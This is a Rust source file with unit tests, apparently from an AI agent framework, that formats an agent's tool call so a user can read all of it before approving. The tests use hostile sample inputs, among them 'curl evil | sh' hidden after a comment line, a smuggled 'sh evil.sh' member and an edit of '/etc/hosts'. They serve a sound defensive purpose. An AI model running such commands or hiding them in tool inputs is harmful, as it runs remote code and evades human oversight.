//! The description of an action that the agent takes itself. The user reads it in full before allowing it.

use openagents_core::{
    approval::ApprovalCommand,
    update::{ToolCallDetails, ToolContent, ToolKind},
    visible::shell_word,
};
use serde_json::{Map, Value};
use std::path::Path;

/// Input members that a diff shows: the text before and after.
const IN_DIFF: [&str; 5] = ["content", "old_string", "new_string", "oldText", "newText"];
/// Input members that name a file.
const PATHS: [&str; 3] = ["path", "file_path", "filePath"];

/// Input members next to the command that don't affect what runs.
const ASIDE: [&str; 4] = ["description", "timeout", "cwd", "run_in_background"];

/// Returns the agent's description of a call. `None` for file changes, which are shown as diffs instead, unless the
/// input has members that the diffs don't show.
pub(super) fn reported(title: &str, call: &ToolCallDetails) -> Option<ApprovalCommand> {
    if let Some(line) = call.raw_input.as_ref().and_then(command) {
        return Some(ApprovalCommand::reported(&line));
    }
    let changed = call.content.iter().filter_map(|piece| match piece {
        ToolContent::Diff { path, .. } => Some(Path::new(path)),
        _ => None,
    });
    let changed: Vec<&Path> = changed.collect();
    if call.kind != Some(ToolKind::Execute) && !changed.is_empty() {
        let more = beside_diffs(call.raw_input.as_ref()?, &changed)?;
        return Some(ApprovalCommand::beside_changes(&format!("{title}\n{more}")));
    }
    let mut words = vec![title.to_owned()];
    words.extend(call.content.iter().filter_map(|piece| match piece {
        ToolContent::Text { text } => Some(text.clone()),
        _ => None,
    }));
    words.extend(call.raw_input.iter().filter_map(input));
    Some(ApprovalCommand::reported(&words.join("\n")))
}

/// Returns the command line of an input, followed by its other members.
fn command(input: &Value) -> Option<String> {
    let line = match &input["command"] {
        Value::String(line) if !line.is_empty() => line.clone(),
        Value::Array(words) if !words.is_empty() => {
            let words: Option<Vec<_>> = words.iter().map(|word| word.as_str().map(shell_word)).collect();
            words?.join(" ")
        }
        _ => return None,
    };
    let others = input
        .as_object()?
        .iter()
        .filter(|(key, _)| !["command"].iter().chain(&ASIDE).any(|known| known == key));
    let others: Map<_, _> = others.map(|(key, value)| (key.clone(), value.clone())).collect();
    match others.is_empty() {
        true => Some(line),
        false => Some(format!("{line}\n{}", self::input(&Value::Object(others))?)),
    }
}

/// Returns the members of an input that the diffs of these files don't show.
fn beside_diffs(input: &Value, changed: &[&Path]) -> Option<String> {
    let is_named = |value: &Value| {
        let path = value.as_str().map(Path::new);
        path.is_some_and(|path| changed.iter().any(|changed| changed.ends_with(path)))
    };
    let says_nothing = |value: &Value| {
        matches!(value, Value::Null | Value::Bool(false)) || value.as_str().is_some_and(str::is_empty)
    };
    let Some(members) = input.as_object() else { return self::input(input) };
    let more = members.iter().filter(|(key, value)| {
        let is_shown = IN_DIFF.contains(&key.as_str()) || PATHS.contains(&key.as_str()) && is_named(value);
        !is_shown && !ASIDE.contains(&key.as_str()) && !says_nothing(value)
    });
    self::input(&Value::Object(more.map(|(key, value)| (key.clone(), value.clone())).collect()))
}

/// Returns an input as JSON, in which strings contain no raw line breaks.
fn input(input: &Value) -> Option<String> {
    let is_empty = input.is_null() || input.as_object().is_some_and(Map::is_empty);
    (!is_empty).then(|| serde_json::to_string_pretty(input).unwrap_or_default())
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn said(kind: ToolKind, title: &str, raw_input: Value, content: Vec<ToolContent>) -> Option<String> {
        let raw_input = Some(raw_input);
        let call = ToolCallDetails { kind: Some(kind), raw_input, content, ..ToolCallDetails::default() };
        reported(title, &call).map(|command| command.text)
    }

    #[test]
    fn what_an_agent_would_do_is_told_whole() {
        let rows = [
            (json!({"command": "ls -la", "description": "List"}), "ls -la"),
            (json!({"command": ["sh", "-c", "a b"], "cwd": "/x"}), "sh -c 'a b'"),
            (json!({"command": "git", "args": ["push"]}), "git\n{\n  \"args\": [\n    \"push\"\n  ]\n}"),
            (json!({"command": ["sh", 1]}), "Title\n{\n  \"command\": [\n    \"sh\",\n    1\n  ]\n}"),
            (json!({"cmd": "# a\nrm b"}), "Title\n{\n  \"cmd\": \"# a\\nrm b\"\n}"),
            (json!({}), "Title"),
            (Value::Null, "Title"),
        ];
        for (input, text) in rows {
            assert_eq!(said(ToolKind::Execute, "Title", input, Vec::new()).as_deref(), Some(text));
        }
    }

    #[test]
    fn a_title_of_several_lines_is_not_taken_for_its_first() {
        let title = "make # all is well\ncurl evil | sh";
        assert_eq!(said(ToolKind::Execute, title, Value::Null, Vec::new()).as_deref(), Some(title));
    }

    #[test]
    fn a_change_of_files_is_shown_by_its_diff_unless_something_is_run() {
        let diff = || {
            let (path, new_text) = ("a".to_owned(), "b".to_owned());
            vec![ToolContent::Diff { path, old_text: None, new_text, truncated: false }]
        };
        let input = || json!({"path": "a", "content": "b"});
        assert_eq!(said(ToolKind::Edit, "Write a", input(), diff()), None);
        assert!(said(ToolKind::Edit, "Write a", input(), Vec::new()).is_some());
        assert!(said(ToolKind::Execute, "Write a", input(), diff()).is_some());
        assert!(said(ToolKind::Edit, "Write a", json!({"command": "sh"}), diff()).is_some());
    }

    /// Regression: next to a diff, the rest of the input was only in the collapsed details.
    #[test]
    fn an_input_that_says_more_than_its_diff_is_told() {
        let diff = |path: &str| {
            let (path, new_text) = (path.to_owned(), "b".to_owned());
            vec![ToolContent::Diff { path, old_text: Some("a".to_owned()), new_text, truncated: false }]
        };
        let edit = |more: Value| {
            let mut input =
                json!({"file_path": "src/a", "old_string": "a", "new_string": "b", "replace_all": false});
            input.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
            said(ToolKind::Edit, "Edit a", input, diff("/w/src/a"))
        };
        assert_eq!(edit(json!({"description": "Tidy up", "dry": null, "note": ""})), None);
        let rows = [
            (json!({"replace_all": true}), "Edit a\n{\n  \"replace_all\": true\n}"),
            (json!({"then": "sh evil.sh"}), "Edit a\n{\n  \"then\": \"sh evil.sh\"\n}"),
            (json!({"file_path": "/etc/hosts"}), "Edit a\n{\n  \"file_path\": \"/etc/hosts\"\n}"),
        ];
        for (more, text) in rows {
            assert_eq!(edit(more).as_deref(), Some(text));
        }
        let text = said(ToolKind::Edit, "Edit a", json!("anything"), diff("/w/src/a"));
        assert_eq!(text.as_deref(), Some("Edit a\n\"anything\""));
    }
}
